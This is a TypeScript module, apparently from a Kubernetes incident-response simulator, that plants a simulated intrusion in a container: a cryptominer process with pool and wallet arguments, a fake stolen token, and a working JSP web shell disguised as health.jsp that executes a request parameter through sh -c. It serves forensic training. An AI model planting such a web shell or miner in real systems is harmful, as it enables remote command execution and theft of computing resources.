import { createHash } from "node:crypto";
import type { SimCluster } from "../kube/cluster";
import type { KObject } from "../kube/types";
import { setContainerModel, type SimFile } from "../kube/pods/procfs";

// What the intrusion left inside the compromised checkout container, as its processes and
// files (sim/kube/pods/procfs.ts serves them to exec, `kubectl cp` and an ephemeral toolbox):
// the JVM as PID 1, the miner x.sh started from /tmp/.X11-unix/kworkerd with its pool
// connection (the flow in sim/kube/netpol/flows.ts), the stolen token copied to /tmp/.t and
// the uploaded web shell. Bytes are derived from fixed seeds, so every run serves the same
// files and their SHA-256 can be compared between any two ways of reading them.

export const STOLEN_TOKEN_PATH = "/tmp/.t";
const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const MINER_PATH = "/tmp/.X11-unix/kworkerd";
const MINER_POOL = { ip: "198.51.100.23", port: 3333 };

/**
 * The miner, once for every view of it: its process here (procfs), its pool connection and logs
 * (demo.ts), and what Falco and Security Command Center report (sim/alerts/payloads.ts).
 */
export const MINER = {
  name: "kworkerd",
  path: MINER_PATH,
  /** An XMRig build is a few MiB; this is enough to stream in pieces. */
  size: 1_572_864 + 123,
  pid: 88,
  argv: [MINER_PATH, "-o", `${MINER_POOL.ip}:${MINER_POOL.port}`, "-u", WALLET, "-k", "--donate-level", "0", "-B"],
  /** The mining pool it holds a connection to, from this local port. */
  pool: MINER_POOL,
  localPort: 43512,
} as const;

/** Deterministic pseudo-random bytes behind an ELF header: a binary that hashes the same every run. */
function elfLike(seed: string, size: number): Buffer {
  const out = Buffer.alloc(size);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).copy(out, 0);
  for (let off = 64, n = 0; off < size; off += 32, n++) createHash("sha256").update(`${seed}:${n}`).digest().copy(out, off);
  return out;
}

function file(bytes: Buffer | string, mode: number, mtime: number): SimFile {
  return { bytes: typeof bytes === "string" ? Buffer.from(bytes, "utf8") : bytes, mode, mtime };
}

const WEB_SHELL = `<%@ page import="java.io.*" %><%
  String c = request.getParameter("c");
  if (c != null) {
    Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", c});
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    for (String l; (l = r.readLine()) != null; ) out.println(l);
  }
%>
`;

/**
 * Plants the intrusion in `container` of `pod`. `t0` is the story's first second (epoch ms):
 * the upload at +12 s, the miner dropped at +61 s, the token copied at +63 s.
 */
export function plantIntrusion(cluster: SimCluster, pod: KObject, container: string, t0: number): void {
  const spec = ((pod.spec?.containers ?? []) as { name: string; env?: { name: string; value?: string }[] }[]).find((c) => c.name === container);
  const started = Date.parse(pod.status?.startTime ?? new Date(t0).toISOString());
  const env: Record<string, string> = {
    PATH: "/opt/java/openjdk/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    HOSTNAME: pod.metadata.name,
    JAVA_HOME: "/opt/java/openjdk",
    SPRING_PROFILES_ACTIVE: "prod",
    // A value an analyst should not have to see to learn the variable exists.
    DB_PASSWORD: "sim-Tr0ub4dor&3-checkout",
    KUBERNETES_SERVICE_HOST: "10.8.0.1",
    KUBERNETES_SERVICE_PORT: "443",
    ...Object.fromEntries((spec?.env ?? []).map((e) => [e.name, e.value ?? ""])),
  };
  const token = `eyJhbGciOiJSUzI1NiIsImtpZCI6InNpbSJ9.${Buffer.from(
    JSON.stringify({ aud: ["https://container.googleapis.com"], sub: `system:serviceaccount:${pod.metadata.namespace}:checkout`, sim: true }),
  ).toString("base64url")}.c2ltdWxhdGVkLXNpZ25hdHVyZQ`;
  const files = new Map<string, SimFile>([
    ["/app/checkout.jar", file(elfLike("checkout.jar", 65_536).fill(0x50, 0, 1).fill(0x4b, 1, 2), 0o644, started - 86_400_000)],
    ["/app/static/health.jsp", file(WEB_SHELL, 0o644, t0 + 12_000)],
    ["/etc/hostname", file(`${pod.metadata.name}\n`, 0o644, started)],
    [MINER.path, file(elfLike(MINER.name, MINER.size), 0o755, t0 + 61_000)],
    [STOLEN_TOKEN_PATH, file(token, 0o644, t0 + 63_000)],
  ]);
  const std = [
    { fd: 0, target: "/dev/null" },
    { fd: 1, target: "pipe:[31337]" },
    { fd: 2, target: "pipe:[31338]" },
  ];
  setContainerModel(cluster, pod, container, {
    files,
    processes: [
      {
        pid: 1,
        ppid: 0,
        cmdline: ["java", "-XX:+UseContainerSupport", "-jar", "/app/checkout.jar"],
        exe: "/opt/java/openjdk/bin/java",
        cwd: "/app",
        env,
        fds: [...std, { fd: 3, target: "/app/checkout.jar" }, { fd: 4, target: { socket: "listen", port: 8080 } }],
      },
      {
        pid: MINER.pid,
        ppid: 1,
        cmdline: [...MINER.argv],
        exe: MINER.path,
        cwd: "/tmp",
        env,
        fds: [
          { fd: 0, target: "/dev/null" },
          { fd: 1, target: "/dev/null" },
          { fd: 2, target: "/dev/null" },
          { fd: 3, target: "anon_inode:[eventpoll]" },
          { fd: 4, target: { socket: "flow", process: MINER.name } },
        ],
      },
    ],
  });
}
